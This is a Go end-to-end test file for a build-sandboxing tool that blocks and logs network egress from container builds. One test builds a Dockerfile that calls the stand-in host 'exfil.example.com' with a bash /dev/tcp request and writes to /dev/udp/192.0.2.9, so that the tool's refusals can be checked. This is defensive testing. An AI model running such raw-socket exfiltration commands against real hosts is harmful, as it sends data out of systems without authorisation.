package e2e

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/buildcage/buildcage/internal/event"
)

// runs is how often the parallel build is repeated: often enough to notice a
// swap that is common, or BUILDCAGE_TEST_RUNS times.
func runs(t *testing.T) int {
	t.Helper()
	text := os.Getenv("BUILDCAGE_TEST_RUNS")
	if text == "" {
		return 3
	}
	n, err := strconv.Atoi(text)
	if err != nil {
		t.Fatalf("BUILDCAGE_TEST_RUNS: %v", err)
	}
	return n
}

// recorded runs the program and reads the record as it was written.
func recorded(t *testing.T, dir string, args ...string) (result, []event.Record) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "events.jsonl")
	r := run(t, dir, append(args, "--events", file, "--output", "type=cacheonly", ".")...)
	f, err := os.Open(file)
	if err != nil {
		t.Fatalf("%v\n%s", err, tail(r.stderr))
	}
	defer f.Close()
	records, err := event.ReadAll(f)
	if err != nil {
		t.Fatalf("%v\n%s", err, tail(r.stderr))
	}
	return r, records
}

// fetch is a command that asks a host for a page and does not mind an answer
// that it does not like.
func fetch(host string) string {
	return `bash -c 'exec 3<>/dev/tcp/` + host + `/80; printf "GET / HTTP/1.1\r\nHost: ` + host + `\r\nConnection: close\r\n\r\n" >&3; cat <&3' || true`
}

// The same command in stages that run at the same time, each of which talks to
// somebody else: nobody's traffic is another's.
func TestParallelStagesAreNotSwapped(t *testing.T) {
	engine(t)
	const stages = 6
	var file strings.Builder
	for i := range stages {
		fmt.Fprintf(&file, "FROM buildcage-demo:base AS s%d\nRUN echo s%d.example.com >/target\nRUN host=$(cat /target); %s\n", i, i,
			strings.ReplaceAll(fetch("$host"), "bash -c", "export host; bash -c"))
	}
	file.WriteString("FROM scratch\n")
	for i := range stages {
		fmt.Fprintf(&file, "COPY --from=s%d /target /t%d\n", i, i)
	}
	dir := project(t, map[string]string{"Dockerfile": file.String()})
	for n := range runs(t) {
		_, records := recorded(t, dir, "build", "--no-cache", "--fail-on-blocked=false")
		stage := make(map[string]string)
		for _, r := range records {
			if r.Step != nil && r.Step.Exit != nil {
				stage[r.Step.ID] = r.Step.Stage
			}
		}
		seen := make(map[string]bool)
		for _, r := range records {
			if r.Conn == nil {
				continue
			}
			want, _, _ := strings.Cut(r.Conn.Name, ".")
			if got := stage[r.Conn.Step]; got != want {
				t.Errorf("run %d: a connection to %s is said to be of step %s, stage %q", n, r.Conn.Name, r.Conn.Step, got)
			}
			seen[r.Conn.Name] = true
		}
		if len(seen) != stages {
			t.Errorf("run %d: connections to %v, want one to each of %d", n, seen, stages)
		}
	}
}

// What is refused is said in the step's own log, which any client shows.
func TestRefusalIsInTheStepsLog(t *testing.T) {
	engine(t)
	dir := project(t, map[string]string{"Dockerfile": "FROM buildcage-demo:base\nRUN " + fetch("exfil.example.com") + "; echo sent >/dev/udp/192.0.2.9/99 || true\n"})
	r := run(t, dir, "build", "--no-cache", "--output", "type=cacheonly", ".").want(t, 3)
	for _, want := range []string{
		" buildcage: refused http exfil.example.com:80 (not-allowed)",
		"; to allow: allowed_http_rules: exfil.example.com:80",
	} {
		if !slices.ContainsFunc(strings.Split(r.stderr, "\n"), func(line string) bool {
			return strings.HasPrefix(line, "#") && strings.Contains(line, want) // "#7 0.154 …": a line of the step
		}) {
			t.Errorf("no line of a step has %q\n%s", want, tail(r.stderr))
		}
	}
}

// Build, take the rule away, build again: the cache answers, and it is not clean.
func TestCachedStepIsNotClean(t *testing.T) {
	engine(t)
	host := fmt.Sprintf("h%d.example.com", time.Now().UnixNano())
	dir := project(t, map[string]string{"f": host, "Dockerfile": "FROM buildcage-demo:base\nCOPY f /f\nRUN " + fetch(host) + "\n"})
	own := apart(t)
	cached := func(want int, args ...string) *event.Evidence {
		t.Helper()
		r, records := recorded(t, dir, append(append([]string{"build", "--strict-cache=false"}, own...), args...)...)
		r.want(t, want)
		for _, rec := range records {
			if rec.Step != nil && rec.Step.Cached {
				return rec.Step.Evidence
			}
		}
		return nil
	}
	if e := cached(0, "--allow-http", host); e != nil {
		t.Fatalf("a new step is cached: %+v", e)
	}
	e := cached(3)
	if e == nil {
		t.Fatal("the step is not in the cache")
	}
	if e.Verdict != event.EvidenceViolates || time.Since(e.At) > time.Hour {
		t.Errorf("without the rule: %+v, want it to violate", e)
	}
	if e := cached(0, "--allow-http", host); e == nil || e.Verdict != event.EvidenceClean {
		t.Errorf("with the rule: %+v, want it clean", e)
	}
	// A strict build does not take the cache's word: the step runs, and is refused.
	r, records := recorded(t, dir, append([]string{"build"}, own...)...)
	r.want(t, 3)
	if !strings.Contains(r.stderr, "buildcage: refused http "+host+":80 (not-allowed)") {
		t.Errorf("the step did not run again\n%s", tail(r.stderr))
	}
	for _, rec := range records {
		if rec.Step != nil && rec.Step.Cached {
			t.Errorf("cached in a strict build: %+v", rec.Step)
		}
	}
}

// What the builder may not fetch fails the build with the line that would allow it.
func TestRefusedSourceSaysHowToAllow(t *testing.T) {
	engine(t)
	for instruction, want := range map[string]string{
		"FROM registry.example.com/base:1":                            "refused tls registry.example.com:443 (not-allowed); to allow: allowed_https_rules: registry.example.com:443 in builder",
		"FROM buildcage-demo:base\nADD http://files.example.com/x /x": "refused http files.example.com:80 (not-allowed); to allow: allowed_http_rules: files.example.com:80 in builder",
	} {
		dir := project(t, map[string]string{
			"Dockerfile":     instruction + "\n",
			"buildcage.yaml": "version: 1\nbuilder:\n  allowed_https_rules: [other.example.com]\n",
		})
		r := run(t, dir, "build", "--no-cache", "--output", "type=cacheonly", ".").want(t, 1)
		if !strings.Contains(r.stderr, want) {
			t.Errorf("%s: nobody says %q\n%s", instruction, want, tail(r.stderr))
		}
	}
}
